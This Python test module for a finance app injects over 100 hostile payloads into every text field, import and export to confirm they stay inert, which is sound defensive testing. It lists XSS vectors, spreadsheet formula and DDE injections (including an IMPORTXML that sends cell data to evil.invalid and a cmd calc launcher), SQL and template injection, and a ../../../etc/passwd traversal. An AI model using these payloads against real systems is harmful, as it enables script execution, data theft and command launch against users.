"""S22: words that would be code elsewhere stay words: in every answer, in the CSV export, on every page."""

from collections.abc import Iterator
import csv
import io
import json
import os
from pathlib import Path
import re
import shutil
import subprocess
from typing import Any
from urllib.parse import quote

from finsure.core import clock
from finsure.identity import sealing
from finsure.identity.models import Counter, DemonstrationMessage
from finsure.identity.providers import local
from finsure.ledger.management.commands.export_transactions import write
from finsure.ledger.queries import Filters
from finsure.statements.models import State, StatementImport
from prove.harness import ROOT, Answer, Findings, Ground, Server, form
from prove.people import Person, person

GOAL = "At least 100 payloads in every text field: answers stay typed, exported cells are inert, no page runs or blocks one"
PHONE = "+919876543210"
LIVE = "=+-@\t\r\n\0＝＋－＠"
SECTIONS = ("/settings/categories", "/settings/history", "/settings/sessions")
STORED = {"finsure-theme", "react-router-scroll-positions"}
KINDS = {"application/json", "application/problem+json"}
BROWSERS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome")
SCRIPTS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<math><mi xlink:href='javascript:{}'>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<style>@import'http://evil.invalid/x'</style>{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<IMG SRC=&#106;avascript:{}>",
    "<a href='java\tscript:{}'>x</a>",
    "<base href='http://evil.invalid/'>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>",
    "<link rel=stylesheet href='http://evil.invalid/{}'>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)
CODES = ("alert(1)", "globalThis.__ran=1")
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid","x")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=IMPORTXML(CONCAT("http://evil.invalid/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "';=1+1",
    '","=1+1',
    "\u00a0=1+1",
    '=DDE("a";"b")',
    "@A1",
    "+A1",
    "-A1",
)
OTHERS = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "' OR '1'='1",
    "\u202eevil",
    "__proto__",
    "constructor",
    "toString",
    "../../../etc/passwd",
    "\x1b[31mred",
    "a\r\nSet-Cookie: x=1",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "%s%n%x",
    "\\",
    "null",
)
PAYLOADS = [*(shape.format(code) for shape in SCRIPTS for code in CODES), *FORMULAS, *OTHERS]


def work(ground: Ground) -> Findings:
    payloads = PAYLOADS[::12] if ground.short else PAYLOADS
    found = Findings(least=len(payloads) * 20)
    found.hold(len(set(PAYLOADS)) >= 100, f"only {len(set(PAYLOADS))} payloads")
    with ground.server() as server:
        asha = person(PHONE)
        for payload in payloads:
            for field, answer in _written(server, asha, payload):
                _judge(found, field, payload, answer)
            for field, answer in _echoed(server, asha, payload):
                _judge(found, f"echo of {field}", payload, answer)
        for path in (
            "accounts",
            "transactions?limit=200",
            "categories",
            "tags",
            "edits",
            "imports",
            "auth/sessions",
            "today",
            "me",
        ):
            _judge(found, f"list of {path}", "all", server.page(f"/api/v1/{path}", token=asha.token))
        _exported(found, asha)
        _shown(found, server)
    found.figures |= {"payloads": len(payloads)}
    return found


def _judge(found: Findings, field: str, payload: str, answer: Answer) -> None:
    kind = answer.headers.get("content-type", "")
    typed = kind in KINDS or (answer.status == 204 and not answer.body)
    html = kind.startswith("text/html") and payload.encode() not in answer.body and field == "echo of a page"
    guarded = answer.headers.get("x-content-type-options") == "nosniff" and "content-security-policy" in answer.headers
    good = (
        (typed or html)
        and guarded
        and 200 <= answer.status < 500
        and "x" not in answer.headers.get("set-cookie", "")[:1]
    )
    found.check(good, f"{field} {payload!r}: {answer.status} {kind}")
    found.count("payloads kept" if answer.status < 300 else "payloads refused")


def _written(server: Server, asha: Person, payload: str) -> Iterator[tuple[str, Answer]]:
    """The payload in every text field that a person can write."""

    def post(path: str, data: Any, method: str = "POST") -> Answer:
        return server.ask(method, f"/api/v1/{path}", token=asha.token, data=data)

    yield "person's name", post("me", {"name": payload[:80]}, "PATCH")
    yield (
        "account's institution",
        post("accounts", {"name": "A", "kind": "cash", "currency": "INR", "institution": payload[:80]}),
    )
    opened = post("accounts", {"name": payload[:80], "kind": "cash", "currency": "INR"})
    yield "account's name", opened
    account = opened.json.get("id") or asha.ids["account"][0]
    asha.ids.setdefault("account", []).append(account)
    yield "category's name", post("categories", {"name": payload[:60], "group": "food", "budget_class": "want"})
    plain = {"account_id": account, "booked_on": "2026-05-01", "amount_minor": -200, "narration": "N"}
    for field, value in {"narration": payload, "name": payload[:120], "note": payload, "tags": [payload[:40]]}.items():
        added = post("transactions", plain | {field: value})
        yield f"transaction's {field}", added
    pk = post("transactions", plain).json["id"]
    for field, value in {"name": payload[:120], "note": payload, "tags": [payload[:40]]}.items():
        yield f"edited {field}", post(f"transactions/{pk}", {field: value}, "PATCH")
    yield "bulk note", post("transactions/edit", {"ids": [pk], "note": payload, "add_tags": [payload[:40]]})
    halves = [{"category": "food.dining", "amount_minor": -100, "note": payload[:200]}] * 2
    yield "split's note", post(f"transactions/{pk}/splits", {"splits": halves}, "PUT")
    body, headers = form("file", f"{payload}.txt", payload.encode() or b"x")
    yield (
        "attachment",
        server.ask("POST", f"/api/v1/transactions/{pk}/attachments", token=asha.token, body=body, headers=headers),
    )
    yield from _imported(server, asha, payload, account)
    yield "device", _signed_in(server, payload)


def _imported(server: Server, asha: Person, payload: str, account: int) -> Iterator[tuple[str, Answer]]:
    target = io.StringIO()
    rows = [
        ["Date", "Details", "Debit", "Credit", "Balance"],
        ["13/04/2026", payload, "10.00", "", "990.00"],
        ["14/04/2026", f"x {payload}", "1.00", "", "989.00"],
    ]
    csv.writer(target).writerows(rows)
    body, headers = form("file", f"{payload}.csv", target.getvalue().encode())
    brought = server.ask("POST", "/api/v1/imports", token=asha.token, body=body, headers=headers)
    yield "statement's file name", brought
    if brought.status != 202:
        return
    pk = brought.json["id"]
    while StatementImport.objects.get(id=pk).state == State.READING:
        pass
    yield "statement's rows", server.page(f"/api/v1/imports/{pk}", token=asha.token)
    step = "confirm" if StatementImport.objects.get(id=pk).state == State.READY else "cancel"
    data = {"account_id": account} if step == "confirm" else None
    yield "statement confirmed", server.ask("POST", f"/api/v1/imports/{pk}/{step}", token=asha.token, data=data)


def _signed_in(server: Server, device: str = "") -> Answer:
    challenge, code = _code()
    data = {"challenge_id": challenge, "code": code} | ({"device": device[:100]} if device else {})
    return server.ask("POST", "/api/v1/auth/sessions", data=data)


def _code() -> tuple[str, str]:
    Counter.objects.all().delete()
    sent = local.send_code(phone=PHONE, address="192.0.2.1", now=clock.now())
    message = DemonstrationMessage.objects.get(challenge_id=sent.challenge_id)
    return sent.challenge_id, sealing.open_code(message)


def _echoed(server: Server, asha: Person, payload: str) -> Iterator[tuple[str, Answer]]:
    """The payload where a refusal or an empty list might repeat it."""
    for name in ("q", "tag", "category", "cursor", "account", "from", "limit"):
        yield name, server.ask("GET", "/api/v1/transactions", token=asha.token, query={name: payload})
    yield "an unknown filter", server.ask("GET", "/api/v1/transactions", token=asha.token, query={payload or "x": "1"})
    unknown = {
        "account_id": asha.ids["account"][0],
        "booked_on": "2026-05-01",
        "amount_minor": 1,
        "category": payload[:40] or "x",
    }
    yield "an unknown category", server.ask("POST", "/api/v1/transactions", token=asha.token, data=unknown)
    yield "a phone", server.ask("POST", "/api/v1/auth/codes", data={"phone": payload[:40]})
    yield "a key", server.ask("POST", "/api/v1/accounts", token=asha.token, data={payload: payload})
    yield "an address", server.page(f"/api/v1/{quote(payload, safe='')}", token=asha.token)
    yield "a page", server.page(f"/{quote(payload, safe='')}")


def _exported(found: Findings, asha: Person) -> None:
    """Every cell of the export, as a spreadsheet would read it."""
    target = io.StringIO(newline="")
    rows = write(target, asha.user, Filters())
    for line in list(csv.reader(io.StringIO(target.getvalue(), newline="")))[1:]:
        for place, cell in enumerate(line):
            number = place == 3 and cell.lstrip("-").replace(".", "", 1).isdigit()
            live = cell.lstrip(" \u00a0\u200b\ufeff")[:1]
            found.check(number or not live or live not in LIVE, f"live cell in the export: {cell!r}")
            found.count("cells exported")
    found.figures["rows exported"] = rows


def _shown(found: Findings, server: Server) -> None:
    """Every page in a real browser."""
    browser = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, BROWSERS)), None)
    built = (Path(os.environ["FINSURE_FRONTEND_DIR"]) / "index.html").is_file()
    if not browser or not built or not (ROOT / "frontend" / "node_modules" / "playwright-core").is_dir():
        found.figures["pages opened in a browser"] = "none: no browser or no built front end here"
        found.hold(not os.environ.get("CI"), "the pages were not opened: no browser or no built front end")
        return
    search = f"/transactions?q={quote(PAYLOADS[0])}"
    paths = ["/", "/transactions", search, "/accounts", "/import", "/settings", *SECTIONS, f"/{quote(PAYLOADS[2])}"]
    challenge, code = _code()
    line = ["node", str(ROOT / "prove" / "pages.mjs"), str(server.port), challenge, code, json.dumps(paths)]
    done = subprocess.run(line, env=os.environ | {"CHROMIUM": browser}, capture_output=True, text=True, check=False)
    if not found.hold(done.returncode == 0, f"the browser ended with {done.returncode}: {done.stderr[-400:]}"):
        return
    told = json.loads(done.stdout)
    for name, words in {
        "dialogs": "dialogs opened",
        "breaches": "breaches of the content policy",
        "strangers": "requests to other hosts",
        "faults": "faults of the pages",
    }.items():
        found.figures[words] = len(told[name])
        found.hold(not told[name], f"{words}: {told[name][:3]}")
    found.hold(not told["ran"], "a payload ran")
    plain = re.compile(r'[\w{}":,.\- ]*')  # the theme, and how far a page was scrolled
    kept = [name for name, value in told["stored"] if name not in STORED or not plain.fullmatch(value)]
    found.hold(not kept, f"the browser keeps {kept}")
    found.figures["things of a person in the browser's storage"] = len(kept)
    found.hold(told["sprung"] >= 2, f"of two breaches made on purpose {told['sprung']} were noticed")
    found.figures |= {
        "pages opened in a browser": told["pages"],
        "rows shown on them": told["rows"],
        "rows opened": told["opened"],
    }
